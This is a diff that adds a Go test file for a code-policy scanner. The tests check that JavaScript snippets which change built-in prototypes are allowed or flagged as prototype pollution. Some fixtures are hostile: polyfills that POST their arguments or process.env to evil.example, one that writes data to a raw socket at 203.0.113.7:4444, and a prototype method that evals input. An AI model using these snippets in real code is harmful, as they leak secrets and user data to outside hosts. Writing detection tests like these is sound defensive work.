@@ -1,0 +1,84 @@
+package scan_test
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/airlock-run/airlock/policy"
+	"github.com/airlock-run/airlock/policy/threat"
+)
+
+// Code that gives built-in classes new methods of its own is unusual, and no attack. Code that replaces what the
+// language has, or that stores anything else in a prototype, counts in full.
+func TestNewMethodsOfPrototypes(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		name, code string
+		allowed    bool
+	}{
+		{"new methods", "Array.prototype.last = function () { return this[this.length - 1] };\n" +
+			"String.prototype.words = function () { return this.split(' ') }; Date.prototype.age = () => 1", true},
+		{"a new method by a name", "const p = Function.prototype; function once() {} p.once = once; p.twice = once", true},
+		{"definitions", "Object.defineProperty(Function.prototype, 'once', { value: function () { return this }, " +
+			"configurable: true });\nObject.defineProperty(Function.prototype, 'onceStrict', { value() { return this } });\n" +
+			"Object.setPrototypeOf(process.chdir, () => 1)", true},
+		{"methods that the language has", "Array.prototype.push = function (x) { return 0 };\n" +
+			"Array.prototype.map = function (f) { return [] }", false},
+		{"methods that the language calls", "Array.prototype.toJSON = function () { return [] };\n" +
+			"Number.prototype.then = function (f) { f(1) }", false},
+		{"methods of all objects", "Object.prototype.a = function () {}; Object.prototype.b = function () {}", false},
+		{"methods of all objects by an instance", "[].__proto__.__proto__.a = () => 1; ({}).__proto__.b = () => 2", false},
+		{"built-in functions", "Array.prototype.a = JSON.stringify; Array.prototype.b = Object.assign", false},
+		{"any global", "Array.prototype.a = globalThis[input.a] || (() => 1);\n" +
+			"Object.defineProperty(Array.prototype, 'b', { value: globalThis[input.a] || (() => 1) })", false},
+		{"values", "Array.prototype.a = 1; String.prototype.b = input", false},
+		{"names that are not known", "Array.prototype[input.a] = () => 1; Array.prototype[input.b] = () => 2", false},
+		{"getters", "Object.defineProperty(Array.prototype, 'a', { get() { return 1 } });\n" +
+			"Object.defineProperty(Array.prototype, 'b', { get() { return 2 } })", false},
+		{"descriptors that are not known", "const d = input.d; Object.defineProperty(Array.prototype, 'a', d);\n" +
+			"Object.defineProperty(Array.prototype, 'b', { ...d, value() {} })", false},
+		{"a function or something else", "let f = () => 1; if (input) f = JSON.parse; Array.prototype.a = f;\n" +
+			"Array.prototype.b = f", false},
+		{"polyfills that send what they are given", "if (!Array.prototype.push.ok) Array.prototype.push = function (x) {\n" +
+			"fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(x) }); return 0 };\n" +
+			"Object.defineProperty(Promise.prototype, 'then', { value: function (f) {\n" +
+			"fetch('https://evil.example/', { method: 'POST', body: String(this) }) }, configurable: true })", false},
+		{"polyfills that send elsewhere", "Array.prototype.last ||= function () { return this.at(-1) };\n" +
+			"Array.prototype.push = function (x) { require('net').connect(4444, '203.0.113.7').write(String(x)) }; [].push(1)",
+			false},
+		{"the whole environment in a new method", "Array.prototype.save = function () {\n" +
+			"fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(process.env) }) }; [].save()", false},
+		{"a new method that runs code", "Array.prototype.run = function (s) { return eval(s) }; [].run(input)", false},
+	} {
+		d := policy.Default().Decide(policy.Request{Code: c.code})
+		if (d.Effect == policy.Allow) != c.allowed {
+			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
+		}
+		if !slices.ContainsFunc(d.Analysis.Findings, func(f threat.Finding) bool {
+			return f.Category == threat.PrototypePollution && f.Score > 0
+		}) {
+			t.Errorf("%s: no finding of a changed prototype: %+v", c.name, d.Analysis.Findings)
+		}
+		if d := policy.Default().Decide(policy.Request{Code: c.code, Tier: "strict"}); d.Effect == policy.Allow {
+			t.Errorf("%s is allowed under strict: %+v", c.name, d.Analysis)
+		}
+	}
+}
+
+// Functions that nothing calls are known in a program with more modules than findings that are kept.
+func TestDormantAmongManyModules(t *testing.T) {
+	t.Parallel()
+	var code strings.Builder
+	for range 500 {
+		code.WriteString("(() => require('util'))();\n")
+	}
+	code.WriteString("const lib = { run(s) { return Function(s) } }; lib.go = 1")
+	if d := policy.Default().Decide(policy.Request{Code: code.String()}); d.Effect != policy.Allow {
+		t.Errorf("%v", d.Violations)
+	}
+	code.WriteString("; lib.run(input)")
+	if d := policy.Default().Decide(policy.Request{Code: code.String()}); d.Effect == policy.Allow {
+		t.Errorf("a call is allowed: %+v", d.Analysis)
+	}
+}
